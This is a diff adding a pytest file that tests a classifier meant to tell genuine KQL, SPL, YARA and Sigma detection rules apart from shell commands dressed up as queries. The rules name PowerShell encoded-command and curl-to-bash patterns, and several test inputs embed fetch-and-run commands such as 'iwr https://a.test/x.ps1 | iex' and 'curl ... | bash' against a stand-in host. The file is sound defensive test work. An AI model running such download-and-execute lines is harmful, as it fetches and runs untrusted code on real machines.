@@ -1,0 +1,61 @@
+"""A detection query or rule is read by its grammar, every line; a command under it is not."""
+
+from __future__ import annotations
+
+import pytest
+
+from app.detection.queries import is_detection_content
+
+KQL = """DeviceProcessEvents
+| where FileName in~ ("mshta.exe", "powershell.exe")
+| where ProcessCommandLine has_any ("-enc", "iex", "curl")
+    and InitiatingProcessFileName =~ "explorer.exe"
+| project Timestamp, DeviceName, ProcessCommandLine"""
+SPL = """`sysmon` EventCode=1 CommandLine IN ("*DownloadString*", "*iex*")
+| stats count by dest CommandLine
+| `security_content_ctime(firstTime)`"""
+YARA = """rule Lure : clickfix
+{
+    strings:
+        $a = "powershell -w hidden -enc" nocase
+        $b = /iex\\s*\\(iwr/ nocase
+    condition:
+        any of them
+}"""
+SIGMA = """title: Curl Piped To Shell
+detection:
+    selection:
+        CommandLine|contains:
+            - 'curl '
+            - '| bash'
+    condition: selection"""
+
+
+@pytest.mark.parametrize("text", [KQL, SPL, YARA, SIGMA], ids=["kql", "spl", "yara", "sigma"])
+def test_queries_and_rules_are_read_as_such(text: str) -> None:
+    assert is_detection_content(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # a command under the query's source, or after its last stage
+        "DeviceProcessEvents\npowershell -w h -c iwr https://a.test/x | iex",
+        KQL + "\niex (iwr https://a.test/x.ps1)",
+        # what a shell starts whatever the first word: $(...), backticks, ;, ||, &&
+        SIGMA + "\n    extra: $(curl -s https://a.test/s.sh | bash)",
+        "detection:\n  condition: x || curl -s https://a.test/s.sh | bash",
+        "DeviceProcessEvents | where x == 1; iwr https://a.test/a.ps1 | iex",
+        # a shell after a pipe, a program among a search's terms (bash runs it)
+        "index=main sourcetype=x\n| where x | sh",
+        "index=main curl -fsSL https://a.test/s.sh | bash",
+        # a rule's condition that is a command line, a subshell hiding one
+        "rule X\n{\n    condition:\n        curl -fsSL https://a.test/s.sh -o /tmp/s\n}",
+        "rule X\n{\n    condition:\n        (curl -fsSL https://a.test/s.sh -o /tmp/s)\n}",
+        # one line alone, a sentence
+        "DeviceProcessEvents",
+        "Run this query in Sentinel to find mshta launches.",
+    ],
+)
+def test_a_command_in_a_querys_clothes_is_no_query(text: str) -> None:
+    assert not is_detection_content(text)
